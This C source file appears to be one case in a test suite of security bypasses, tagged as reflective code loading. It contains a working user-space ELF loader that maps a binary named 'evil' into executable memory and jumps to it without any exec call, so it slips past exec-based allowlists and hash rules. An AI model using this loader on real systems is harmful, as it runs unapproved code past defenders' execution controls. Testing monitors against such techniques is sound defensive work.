/* trick: evil is mapped and jumped to without an exec
 * act: inject
 * attack: T1620
 * expect: outside
 * why: a loader in user space makes code of data, as above; day zero, hashes and exec rules decide what the kernel starts
 */
#include "bypass.h"

#include <elf.h>

/* A loader of static programs in user space: as `ld.so PROGRAM`, without a system call that runs anything. */
int main(void) {
  int fd = (int)must(open("evil", O_RDONLY), "evil");
  unsigned char *file = mmap(NULL, 1 << 20, PROT_READ, MAP_PRIVATE, fd, 0);
  Elf64_Ehdr *head = (Elf64_Ehdr *)file;
  Elf64_Phdr *parts = (Elf64_Phdr *)(file + head->e_phoff);
  if (head->e_type == ET_DYN) broken("evil can be anywhere");
  pid_t child = fork();
  if (child == 0) {
    for (int i = 0; i < head->e_phnum; i++) {
      if (parts[i].p_type != PT_LOAD) continue;
      uintptr_t from = parts[i].p_vaddr & ~0xfffful, to = (parts[i].p_vaddr + parts[i].p_memsz + 0xffff) & ~0xfffful;
      for (uintptr_t at = from; at < to; at += 4096) /* parts may share a page's neighbourhood */
        mmap((void *)at, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS | 0x100000 /* MAP_FIXED_NOREPLACE */, -1, 0);
      pread(fd, (void *)parts[i].p_vaddr, parts[i].p_filesz, (off_t)parts[i].p_offset);
    }
    static uint64_t stack[8192] __attribute__((aligned(16)));
    uint64_t *top = stack + 4096, random[2] = {1, 2};
    uint64_t start[] = {1, (uint64_t)(uintptr_t)"evil", 0, 0, AT_PAGESZ, 4096, AT_PHDR, (uint64_t)(uintptr_t)parts, AT_PHNUM, head->e_phnum,
                        AT_PHENT, sizeof *parts, AT_RANDOM, (uint64_t)(uintptr_t)random, 0, 0};
    memcpy(top, start, sizeof start);
#ifdef __x86_64__
    __asm__ volatile("mov %0, %%rsp\n xor %%edx, %%edx\n jmp *%1" : : "r"(top), "r"(head->e_entry) : "memory");
#else
    __asm__ volatile("mov sp, %0\n br %1" : : "r"(top), "r"(head->e_entry) : "memory");
#endif
  }
  ended_with(child);
}
